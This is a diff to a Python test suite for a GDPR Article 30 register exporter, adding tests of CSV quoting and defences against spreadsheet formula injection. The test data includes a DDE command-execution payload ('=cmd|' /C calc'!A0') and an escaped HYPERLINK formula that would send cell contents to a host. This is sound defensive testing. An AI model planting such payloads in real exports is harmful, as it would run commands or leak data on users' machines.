@@ -325,7 +325,7 @@ def test_art30_csv_one_row_per_activity_with_every_point(seeded: Seeded) -> None
 
 def test_art30_excel_flavour_has_bom_and_semicolons(seeded: Seeded) -> None:
     result = _export(seeded, ExportKind.ART30, ExportFormat.CSV_EXCEL)
-    assert result.content.startswith(UTF8_BOM + "traitement;responsable_traitement;")
+    assert result.content.startswith(UTF8_BOM + "\"traitement\";\"responsable_traitement\";")
     _golden("art30-excel.csv", result.content)
     rows = _rows(result.content.removeprefix(UTF8_BOM), delimiter=";")
     plain = _rows(_export(seeded, ExportKind.ART30).content)
@@ -589,3 +589,11 @@ def test_csv_cells_never_run_as_spreadsheet_formulas() -> None:
     assert rows[1][0] == '\'=HYPERLINK("http://x/?"&A1,"Paie")'
     assert rows[2] == ["'+33 6 12", "-3"]  # numbers stay numbers
     assert rows[3] == ["Paie", ""]
+
+
+def test_a_formula_behind_the_other_separator_stays_inside_a_quoted_cell() -> None:
+    from registre.catalog.export_common import ExportFormat, csv_text
+
+    # Excel in French splits a .csv on ';' even when it was written with ','
+    text = csv_text(["nom"], [["Chatbot;=cmd|' /C calc'!A0"]], ExportFormat.CSV)
+    assert text.splitlines()[1] == "\"Chatbot;=cmd|' /C calc'!A0\""
